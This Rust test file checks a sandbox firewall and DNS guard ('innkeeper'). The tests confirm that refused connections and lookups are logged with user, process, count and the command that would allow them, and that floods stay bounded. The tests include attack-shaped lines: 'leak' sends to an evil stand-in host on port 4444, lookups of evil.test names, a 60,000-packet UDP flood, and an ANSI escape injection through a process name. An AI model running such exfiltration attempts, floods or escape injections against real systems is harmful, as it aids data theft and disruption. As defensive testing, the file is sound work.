//! What was refused and what was used, as the operator sees it: who, where to, why, and the command that changes it.

use serde_json::Value;

use crate::common::{GET, python, until};
use crate::rig::{AGENT, BoxOptions, PATIENCE, ROOT, Rig, RunningBox, host};

fn denial(guest: &RunningBox, what: &str, layer: &str) -> Value {
    let found = |status: &Value| {
        let all = status["denials"].as_array().cloned().unwrap_or_default();
        all.into_iter()
            .find(|one| one["layer"] == layer && one["what"].as_str().is_some_and(|text| text.contains(what)))
    };
    let status = guest.await_status(&format!("a refusal of {what}"), |status| found(status).is_some());
    found(&status).unwrap()
}

/// Keeps its socket after the refusal, as programs that try again do.
const PATIENT: &str = r#"
import socket, sys
kind = {"tcp": socket.SOCK_STREAM, "udp": socket.SOCK_DGRAM}[sys.argv[1]]
s = socket.socket(socket.AF_INET6 if ":" in sys.argv[2] else socket.AF_INET, kind)
s.settimeout(1)
for i in range(int(sys.argv[4])):
    try:
        if kind == socket.SOCK_DGRAM:
            s.sendto(b"leak", (sys.argv[2], int(sys.argv[3])))
        else:
            s.connect((sys.argv[2], int(sys.argv[3])))
    except OSError:
        pass
print("tried", flush=True)
sys.stdin.read()
"#;

/// The process behind a rejected packet is found while its socket lives and somebody gets to look: at the first try, or at
/// one of the next on a busy machine.
fn try_and_stay(guest: &RunningBox, user: &str, kind: &str, address: &str, port: &str) {
    for left in (0..5).rev() {
        let mut client = guest.spawn(user, &["python3", "-c", PATIENT, kind, address, port, "3"]);
        assert_eq!(client.hear(), "tried");
        let seen = denial(guest, address, "firewall");
        client.end();
        assert_eq!(seen["uid"], user.parse::<u64>().unwrap(), "{seen}");
        if kind != "udp" || seen["process"].as_str().is_some_and(|name| name.starts_with("python3")) {
            return;
        }
        assert!(left > 0, "the process is never named: {seen}");
    }
}

#[test]
fn r20_a_refused_packet_says_who_where_to_and_what_would_allow_it() {
    let Some(rig) = Rig::new() else { return };
    let guest = rig.boot(&BoxOptions::new().allow("ok.test:80;onlysix.test:80"));
    try_and_stay(&guest, AGENT, "tcp", "45.33.32.66", "9999");
    try_and_stay(&guest, AGENT, "udp", "45.33.32.67", "9999");
    try_and_stay(&guest, AGENT, "udp", "2606:4700::66", "9999");
    try_and_stay(&guest, ROOT, "udp", "45.33.32.68", "9999");
    guest.client(AGENT, &["ping", "45.33.32.69", "leak"]);
    denial(&guest, "45.33.32.69", "firewall");
    // The port is part of it, and the wrong port of an open address names the rule that would open it.
    guest.client(AGENT, &["tcp", &host("ok"), "8443", "leak"]);
    let seen = denial(&guest, &host("ok"), "firewall");
    assert!(seen["what"].as_str().unwrap().contains("8443"), "{seen}");
    assert!(seen["allow"].as_str().unwrap().contains("innkeeper allow ok.test:8443"), "{seen}");
    assert!(!seen["reason"].as_str().unwrap().is_empty() && seen["time"].is_string(), "{seen}");
    // The same again is a count.
    let count = seen["count"].as_u64().unwrap();
    guest.client(AGENT, &["tcp", &host("ok"), "8443", "leak"]);
    guest.await_status("a larger count", |status| {
        let all = status["denials"].as_array().cloned().unwrap_or_default();
        all.iter().any(|one| one["what"] == seen["what"] && one["count"].as_u64() > Some(count))
    });
    assert!(guest.status()["firewall"]["denied"].as_u64().unwrap() > 5);
}

#[test]
fn a_refused_name_says_which_process_asked() {
    let Some(rig) = Rig::new() else { return };
    let guest = rig.boot(&BoxOptions::new());
    for transport in ["udp", "tcp"] {
        let name = format!("by-{transport}.evil.test");
        assert_eq!(guest.client(AGENT, &["dns", "127.0.0.53", &name, "A", transport]).out, "NXDOMAIN\n");
        let seen = denial(&guest, &name, "dns");
        assert_eq!(seen["uid"], 1000, "{seen}");
        assert!(seen["process"].as_str().is_some_and(|process| process.starts_with("python3")), "{seen}");
        assert_eq!(seen["allow"], format!("innkeeper allow {name}"), "{seen}");
    }
    // By a hard-coded resolver it is the same process.
    guest.client(AGENT, &["dns", "8.8.8.8", "hard.evil.test"]);
    let seen = denial(&guest, "hard.evil.test", "dns");
    assert!(seen["process"].as_str().is_some_and(|process| process.starts_with("python3")), "{seen}");
    assert!(!guest.as_session("getent hosts session.evil.test").ok());
    let seen = denial(&guest, "session.evil.test", "dns");
    assert!(seen["uid"] == 1000 && seen["process"] == "getent", "{seen}");
    // Once, not once for each of getent's two questions.
    let all = guest.status()["denials"].as_array().cloned().unwrap();
    assert_eq!(all.iter().filter(|one| one["what"] == "session.evil.test").count(), 1, "{all:?}");
    // What a process calls itself is shown as inert text.
    let disguised = "import socket\nopen('/proc/self/comm', 'w').write('\\x1b[31m\\n\\\"x')\ntry: socket.getaddrinfo('disguised.evil.test', 80)\nexcept OSError: pass";
    python(&guest, AGENT, disguised);
    denial(&guest, "disguised.evil.test", "dns");
    for text in [guest.innkeeper(&["status"]).out, guest.innkeeper(&["log", "--denied"]).out, guest.logs()] {
        let line = text.lines().find(|line| line.contains("disguised.evil.test")).unwrap_or_default();
        assert!(!line.contains("\u{1b}[31m"), "{line:?}");
    }
}

/// Refused packets to ever other addresses and ports, as fast as it can.
const FLOOD: &str = r#"
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setblocking(False)
for i in range(60000):
    try:
        s.sendto(b"leak", (socket.inet_ntoa(struct.pack("!I", 0x2D212000 + i)), 1024 + i % 60000))
    except OSError:
        pass
print("flooded")
"#;

#[test]
fn t20_a_flood_of_refused_packets_stays_bounded() {
    let Some(rig) = Rig::new() else { return };
    let guest = rig.boot(&BoxOptions::new());
    let memory = || -> u64 {
        let read = "awk '/^Pss:/ { sum += $2 } END { print sum }' $(for p in 1 $(pgrep innkeeper); do echo /proc/$p/smaps_rollup; done | sort -u)";
        let said = guest.exec_root(read);
        said.out.trim().parse().unwrap_or_else(|_| panic!("{said:?}"))
    };
    let (kilobytes, lines, mark) = (memory(), guest.logs().lines().count(), rig.world.sync());
    for _ in 0..3 {
        assert_eq!(python(&guest, AGENT, FLOOD).out, "flooded\n");
        assert!(
            guest.exec_agent("curl -sS -m 10 http://ok.test/").out.contains("token-"),
            "allowed work goes on"
        );
    }
    let status =
        guest.await_status("the flood", |status| status["firewall"]["denied"].as_u64() >= Some(100_000));
    assert!(
        status["denials"].as_array().unwrap().len() <= 128,
        "{}",
        status["denials"].as_array().unwrap().len()
    );
    let (more, lines) = (memory().saturating_sub(kilobytes), guest.logs().lines().count() - lines);
    assert!(more < 20_000, "{more} KiB");
    assert!(lines < 500, "{lines} lines");
    let packets = rig.world.packets_since(mark);
    assert!(packets.iter().all(|one| one["dst"] == "9.9.9.53" || one["dst"] == host("ok").as_str()));
    // Another refusal is seen beside the flood, by its count at least.
    let before = guest.status()["firewall"]["denied"].as_u64().unwrap();
    guest.client(AGENT, &["tcp", &host("evil"), "4444", "leak"]);
    until("it is counted", PATIENCE, || guest.status()["firewall"]["denied"].as_u64().unwrap() > before);
}

fn log(guest: &RunningBox, args: &[&str]) -> Vec<Value> {
    let text = guest.innkeeper(&[&["log", "--json"], args].concat()).expect("the log");
    text.lines().map(|line| serde_json::from_str(line).unwrap_or_else(|_| panic!("{line}"))).collect()
}

#[test]
fn allowed_uses_are_in_the_log_with_name_port_and_count() {
    let Some(rig) = Rig::new() else { return };
    let guest = rig.boot(&BoxOptions::new().allow("ok.test:80,443;onlysix.test:80"));
    for _ in 0..3 {
        assert!(guest.exec_agent("curl -sS -m 10 http://ok.test/").out.contains("token-"));
    }
    assert!(guest.exec_agent("curl -sS -m 10 http://onlysix.test/").out.contains("token-"));
    let used = |name: &str, port: u64| {
        log(&guest, &[])
            .into_iter()
            .find(|one| one["event"] == "used" && one["name"] == name && one["port"] == port)
    };
    until("the uses", PATIENCE, || {
        used("ok.test", 80).is_some_and(|one| one["count"].as_u64() >= Some(3))
            && used("onlysix.test", 80).is_some()
    });
    let one = used("ok.test", 80).unwrap();
    assert_eq!(one["count"], 3, "connections, not packets: {one}");
    assert_eq!(one["uid"], 1000, "{one}");
    assert_eq!(one["address"], host("ok"), "{one}");
    assert_eq!(one["rule"], "ok.test:80,443 (INNKEEPER_NETWORK_ALLOW)", "{one}");
    assert!(one["first"].as_str() <= one["last"].as_str() && one["schema"] == 1, "{one}");
    // An error of the agent's is one too, and the two are told apart.
    guest.client(AGENT, &["tcp", &host("evil"), "80", GET]);
    guest.exec_agent("getent hosts x.evil.test");
    until("the refusals", PATIENCE, || {
        let text = log(&guest, &["--denied"]);
        ["evil.test:80", "x.evil.test"]
            .iter()
            .all(|what| text.iter().any(|one| one["what"].as_str().is_some_and(|text| text.contains(what))))
    });
    assert!(
        log(&guest, &["--denied"]).iter().all(|one| one["event"] == "denied" && one["allow"].is_string())
    );
    // Changes of policy are decisions too.
    guest.innkeeper(&["allow", "two.test:80"]).expect("allow");
    assert!(
        log(&guest, &[])
            .iter()
            .any(|one| one["event"] == "policy" && one.to_string().contains("two.test:80"))
    );
}

#[test]
fn the_log_can_be_followed() {
    let Some(rig) = Rig::new() else { return };
    let guest = rig.boot(&BoxOptions::new());
    let mut following = guest.spawn(ROOT, &["innkeeper", "log", "--follow", "--denied", "--json"]);
    guest.exec_agent("getent hosts follow-me.evil.test");
    let mut heard = Vec::new();
    while !heard.last().is_some_and(|line: &String| line.contains("follow-me.evil.test")) {
        let line = following.hear();
        assert!(!line.is_empty(), "it ended: {heard:?}");
        heard.push(line);
    }
    guest.innkeeper(&["allow", "follow-me.evil.test:80"]).expect("the command that it names works");
    assert!(guest.exec_agent("curl -sS -m 10 http://follow-me.evil.test/").out.contains("token-"));
    drop(following);
}

/// The worker that lists refusals dies: the box refuses as before, and what was refused meanwhile is told by the next.
#[test]
fn the_watch_worker_comes_back_and_its_packets_waited() {
    let Some(rig) = Rig::new() else { return };
    let guest = rig.boot(&BoxOptions::new());
    let worker = |status: &Value| {
        let all = status["workers"].as_array().cloned().unwrap_or_default();
        all.into_iter().find(|one| one["name"] == "watch").unwrap_or_default()
    };
    let before = worker(&guest.status());
    assert!(before["pid"].is_u64() && before["restarts"] == 0, "{before}");
    // The self-attack was refused at boot, and is again for each operator who asks: no denial of the agent's.
    let denials = guest.status()["denials"].clone();
    assert_eq!(denials, serde_json::json!([]));
    guest.exec_root(&format!("kill -STOP {0}", before["pid"]));
    guest.client(AGENT, &["udp", "45.33.32.70", "9999", "leak"]);
    guest.exec_root(&format!("kill -KILL {0}", before["pid"]));
    guest.await_status("another worker", |status| {
        let now = worker(status);
        now["pid"].is_u64() && now["pid"] != before["pid"] && now["restarts"] == 1
    });
    let seen = denial(&guest, "45.33.32.70:9999", "firewall");
    assert_eq!((&seen["uid"], &seen["count"]), (&serde_json::json!(1000), &serde_json::json!(1)), "{seen}");
    // As nobody and nothing else.
    let now = worker(&guest.status());
    let own = guest
        .exec_root(&format!("grep -E '^(Uid|CapEff|CapPrm|CapBnd|NoNewPrivs)' /proc/{}/status", now["pid"]));
    assert!(own.out.contains("903") && own.out.matches("0000000000000000").count() == 3, "{own:?}");
}
